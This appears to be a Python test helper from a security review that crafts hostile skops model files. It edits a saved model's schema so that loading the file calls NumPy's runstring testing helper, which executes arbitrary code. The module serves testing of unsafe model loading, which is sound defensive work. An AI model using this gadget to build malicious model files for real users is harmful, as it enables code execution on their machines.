"""Hostile .skops files from the security review (C1), built by editing a real file's schema."""

from __future__ import annotations

import json
import zipfile
from pathlib import Path
from typing import Any

import numpy as np

RUNSTRING = ("numpy.testing._private.utils", "runstring")
SCRIPT_RUNNER = ("sklearn.utils._testing", "assert_run_python_script_without_output")


def exec_payload(path: Path, code: str, target: tuple[str, str] = RUNSTRING) -> Path:
    """A fitted LogisticRegression whose extra attribute is ``runstring(code, {})``.

    skops stores a tuple attribute as a TupleNode; we turn that node into a
    ConstructorFromReduceNode whose "class" is NumPy's testing helper that
    calls ``exec`` (what the review used).
    """
    import skops.io as sio
    from sklearn.linear_model import LogisticRegression

    x = np.random.default_rng(0).standard_normal((40, 3))
    model: Any = LogisticRegression().fit(x, (x[:, 0] > 0).astype(int))
    model.zs_payload = (code, {})
    plain = path.with_suffix(".plain.skops")
    sio.dump(model, plain)
    with zipfile.ZipFile(plain) as src:
        files = {n: src.read(n) for n in src.namelist()}
    schema = json.loads(files["schema.json"])
    node = schema["content"]["content"]["zs_payload"]
    schema["content"]["content"]["zs_payload"] = {
        "__module__": target[0],
        "__class__": target[1],
        "__loader__": "ConstructorFromReduceNode",
        "content": node,
    }
    files["schema.json"] = json.dumps(schema).encode()
    with zipfile.ZipFile(path, "w") as out:
        for name, data in files.items():
            out.writestr(name, data)
    plain.unlink()
    return path
